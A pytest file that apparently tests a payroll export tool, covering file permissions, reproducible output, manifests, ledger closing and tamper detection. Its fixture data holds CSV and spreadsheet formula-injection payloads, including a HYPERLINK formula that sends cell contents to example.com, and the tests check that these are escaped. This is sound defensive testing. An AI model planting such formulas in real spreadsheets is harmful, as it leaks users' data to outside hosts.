"""Exporting a month's pay: real files of a small publication and a small ledger."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import duckdb
import openpyxl
import pytest

from dagster_project import cli
from dagster_project.lib import ledger, publishing
from dagster_project.lib.closing import Period
from dagster_project.lib.settings import Home

OCTOBER = Period(2026, 10)
FORMULA = '=HYPERLINK("http://example.com?"&A1,"Ann")'
PEOPLE = f"""
    create table marts.compensation_inputs as
    select employee_id, full_name, currency, hold_reason,
        cast(bonus as decimal(18, 3)) as bonus_amount,
        cast(award as decimal(18, 3)) as award_amount,
        cast(held as decimal(18, 3)) as held_amount,
        cast(adjusted as decimal(18, 3)) as adjustment_amount,
        cast(bonus + award - held + adjusted as decimal(18, 3)) as total_amount,
        0.0734 as bonus_ratio, true as is_final, false as is_closed,
        date '2026-10-01' as period_start
    from (values
        ('E1', '{FORMULA}', 'EUR', null, 89.07, 150, 0, -12.30),
        ('E2', '@sum', 'EUR', '-1+1 inquiry', 43.20, 0, 43.20, 0),
        ('E3', 'Ann, "A"', 'JPY', null, 1, 0, 0, 0)
    ) as people (employee_id, full_name, currency, hold_reason, bonus, award, held, adjusted)
"""
LINES = """
    create table marts.statements as
    select employee_id, 1 as line_number, 'total' as kind, 'To be paid' as label,
        null::varchar as arithmetic, currency, total_amount as amount, period_start
    from marts.compensation_inputs
"""


@pytest.fixture
def home(tmp_path: Path) -> Home:
    """A publication with the pay of October."""
    home = Home(tmp_path / "home")
    home.build.mkdir(parents=True)
    for name in publishing.DATABASES:
        with duckdb.connect(str(home.build / f"{name}.duckdb")) as connection:
            connection.execute("create schema marts")
            if name == "pay":
                connection.execute(PEOPLE)
                connection.execute(LINES)
    publishing.publish(home, "run-1", {})
    return home


def export(home: Home, file: Path, *arguments: str, period: str = "2026-10") -> int:
    return cli.main(
        ["export", "pay", period, "--home", str(home.root), "--to", str(file), *arguments]
    )


def close(home: Home) -> None:
    folder = ledger.staging(home)
    tables = [
        table for table in ledger.TABLES if table.name in {"compensation_inputs", "statements"}
    ]
    rows = ledger.write_tables(home.current, OCTOBER, folder, tables)
    facts = {"closed": {"by": "Ieva", "at": "2026-11-02 09:00:00"}}
    ledger.seal(home, OCTOBER, folder, facts, rows)


def test_pay_is_for_its_owner_alone(home: Home) -> None:
    for file in (home.published_pay, home.pay):
        assert file.resolve().stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "parquet"])
def test_the_same_month_gives_the_same_bytes(home: Home, tmp_path: Path, suffix: str) -> None:
    first, second = (tmp_path / f"{name}.{suffix}" for name in ("first", "second"))
    assert export(home, first, "--draft") == export(home, second, "--draft") == 0
    assert first.read_bytes() == second.read_bytes()
    assert first.stat().st_mode & 0o077 == 0
    manifest = json.loads(first.with_name(f"{first.name}.manifest.json").read_text())
    assert manifest["sha256"] == hashlib.sha256(first.read_bytes()).hexdigest()
    assert (manifest["status"], manifest["source"]) == ("draft", "publication run-1")
    # 89.07 + 150 − 12.30 = 226.77; all of E2 is held; yen have no decimals.
    assert [
        (row["currency"], row["people"], row["total_amount"], row["held_amount"])
        for row in manifest["control_totals"]
    ] == [("EUR", 2, "226.77", "43.20"), ("JPY", 1, "1", "0")]


def test_no_cell_runs_as_a_formula(home: Home, tmp_path: Path) -> None:
    assert export(home, tmp_path / "pay.csv", "--draft") == 0
    with open(tmp_path / "pay.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["full_name"] for row in rows] == [f"'{FORMULA}", "'@sum", 'Ann, "A"']
    assert rows[1]["hold_reason"] == "'-1+1 inquiry"
    # A number may begin with a minus.
    assert rows[0]["adjustment_amount"] == "-12.30"
    assert {row["status"] for row in rows} == {"draft"}

    assert export(home, tmp_path / "pay.xlsx", "--draft") == 0
    book = openpyxl.load_workbook(tmp_path / "pay.xlsx")
    assert book.sheetnames == ["Pay", "Statements", "Control totals"]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    names, *people = book["Pay"].iter_rows(values_only=True)
    assert dict(zip(names, people[0], strict=True))["total_amount"] == 226.77


def test_a_month_is_paid_from_the_ledger_or_not_at_all(
    home: Home, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "pay.csv"
    assert export(home, file) == 4
    assert "2026-10 is not closed" in capsys.readouterr().out
    assert not list(tmp_path.glob("*pay*"))

    close(home)
    assert export(home, file) == 0
    closed = file.read_bytes()
    # What is published later does not reach a closed month.
    with duckdb.connect(str(home.pay)) as connection:
        connection.execute("update marts.compensation_inputs set total_amount = 0")
    publishing.publish(home, "run-2", {})
    assert export(home, file, "--draft") == 0
    assert file.read_bytes() == closed
    assert json.loads((tmp_path / "pay.csv.manifest.json").read_text())["status"] == "closed"
    # The month was not closed yet when its rows were written.
    assert "is_closed" not in closed.decode().splitlines()[0]

    results = home.ledger / "2026-10" / "results" / "compensation_inputs.parquet"
    results.chmod(0o600)
    results.write_bytes(results.read_bytes() + b"\0")
    assert export(home, file) == 4
    assert "compensation_inputs.parquet has the hash" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("name", "period", "code"),
    [("pay.pdf", "2026-10", 2), ("nowhere/pay.csv", "2026-10", 2), ("pay.csv", "2026-13", 2)],
)
def test_wrong_use(home: Home, tmp_path: Path, name: str, period: str, code: int) -> None:
    with pytest.raises(SystemExit) as raised:
        export(home, tmp_path / name, "--draft", period=period)
    assert raised.value.code == code


def test_a_month_without_pay_is_refused(home: Home, tmp_path: Path) -> None:
    assert export(home, tmp_path / "pay.csv", "--draft", period="2026-09") == 4
